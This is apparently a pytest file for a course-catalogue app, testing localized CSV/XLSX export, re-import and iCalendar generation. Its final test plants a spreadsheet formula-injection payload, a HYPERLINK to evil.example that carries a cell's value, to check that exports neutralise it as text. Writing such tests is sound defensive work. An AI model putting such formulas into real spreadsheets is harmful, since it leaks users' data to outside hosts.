"""Catalogue export per locale (CSV, XLSX) and iCalendar documents."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from openpyxl import load_workbook
from tortoise.transactions import in_transaction

from courses import demo
from courses.enrollment import Event, calendar, fold
from courses.models import BaseText, Course, CourseText, Enrollment, Intake, Learner
from courses.staff import (
    EXPORT_COLUMNS,
    catalogue_rows,
    import_file,
    intake_calendar,
    learner_calendar,
    to_csv,
    to_xlsx,
)
from courses.vocabulary import EnrollmentStatus, Source

NOW = datetime(2026, 11, 29, 8, tzinfo=UTC)


async def load_demo(scale: int = 40) -> None:
    async with in_transaction() as conn:
        await demo.load(conn, demo.generate(scale, now=NOW))


async def test_export_follows_the_fallback_chain_and_marks_the_real_locale(db: str) -> None:
    await load_demo()
    course = await Course.filter(texts__locale="en").exclude(texts__locale="ar").first()
    rows = {row["key"]: row for row in await catalogue_rows("ar")}
    assert len(rows) == await Course.all().count()
    row = rows[course.key]
    assert row["locale"] == "en"
    assert row["title"] == (await CourseText.get(course=course, locale="en")).title
    hant = {row["key"]: row for row in await catalogue_rows("zh-Hant")}
    converted = next(r for r in hant.values() if r["locale"] == "zh-Hant")
    assert converted["title"] and converted["provider"]


async def test_exported_csv_and_xlsx_import_back_without_changes(db: str) -> None:
    await load_demo()
    for locale in ("en", "zh-Hans", "ru"):
        rows = await catalogue_rows(locale)
        for data in (to_csv(rows), to_xlsx(rows)):
            report = await import_file(data)
            assert report.ok, report.problems[:3]
            assert (report.created, report.updated, report.unchanged) == (0, 0, len(rows)), locale


async def test_csv_has_a_bom_and_the_importers_headers(db: str) -> None:
    await load_demo(10)
    data = to_csv(await catalogue_rows("zh-Hans", status="published"))
    assert data.startswith(b"\xef\xbb\xbf")
    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert tuple(reader.fieldnames or ()) == EXPORT_COLUMNS
    assert {row["status"] for row in reader} == {"published"}
    sheet = load_workbook(io.BytesIO(to_xlsx(await catalogue_rows("en"))), read_only=True).worksheets[0]
    header, first = list(sheet.iter_rows(max_row=2, values_only=True))
    assert header == EXPORT_COLUMNS and isinstance(first[EXPORT_COLUMNS.index("hours")], int)


def test_calendar_escapes_folds_and_uses_crlf() -> None:
    start = datetime(2027, 3, 1, 1, 30, tzinfo=UTC)
    text = calendar(
        [
            Event(
                uid="intake-1@x",
                summary="焊接, 基础; 入门\\进阶 " + "很长" * 40,
                starts_at=start,
                ends_at=start + timedelta(hours=2),
                url="https://x.example/en/courses/1",
            )
        ],
        stamp=NOW,
    )
    assert text.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n") and text.endswith("END:VCALENDAR\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "")
    assert "SUMMARY:焊接\\, 基础\\; 入门\\\\进阶 " in unfolded
    assert "DTSTART:20270301T013000Z" in unfolded and "DTEND:20270301T033000Z" in unfolded
    assert "DTSTAMP:20261129T080000Z" in unfolded


def test_fold_never_splits_a_character() -> None:
    line = "SUMMARY:" + "焊" * 60
    folded = fold(line)
    assert folded.replace("\r\n ", "") == line
    for part in folded.split("\r\n "):
        part.encode("utf-8")
        assert len(part.encode()) <= 75


async def test_intake_and_learner_calendars(db: str) -> None:
    await load_demo()
    intake = await Intake.filter(ends_at__not_isnull=True).first()
    text = await intake_calendar(intake.id, "en", portal_url="https://portal.example", now=NOW)
    assert text.count("BEGIN:VEVENT") == 1
    assert f"URL:https://portal.example/en/courses/{intake.course_id}" in text
    learner = await Learner.create(display_name="Ana")
    other = await Intake.exclude(id=intake.id).first()
    await Enrollment.create(
        learner=learner, intake=intake, status=EnrollmentStatus.ENROLLED, source=Source.PORTAL
    )
    await Enrollment.create(
        learner=learner, intake=other, status=EnrollmentStatus.WAITLISTED, source=Source.PORTAL
    )
    mine = await learner_calendar(learner.id, "ru", now=NOW)
    assert mine.count("BEGIN:VEVENT") == 1 and f"UID:intake-{intake.id}@" in mine
    assert "Ana" not in mine  # no personal data in the calendar
    on_site = await Intake.exclude(base_id=None).first()
    place = await BaseText.get(base_id=on_site.base_id, locale="en")
    located = (await intake_calendar(on_site.id, "en", now=NOW)).replace("\r\n ", "")
    assert f"LOCATION:{place.name}" in located


async def test_a_formula_in_a_title_is_exported_as_text_and_imports_back(db: str) -> None:
    await load_demo(10)
    formula = '=HYPERLINK("https://evil.example/?x="&A2,"open")'
    text = await CourseText.filter(locale="en").first()
    text.title = formula
    await text.save()
    rows = await catalogue_rows("en")
    reader = csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig")))
    assert "'" + formula in {row["title"] for row in reader}
    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).worksheets[0]
    column = EXPORT_COLUMNS.index("title") + 1
    cells = [cell for cell in sheet.iter_rows(min_col=column, max_col=column) if cell[0].value == formula]
    assert cells and cells[0][0].data_type == "s"
    for data in (to_csv(rows), to_xlsx(rows)):
        report = await import_file(data)
        assert report.ok and report.updated == 0, report.problems[:3]
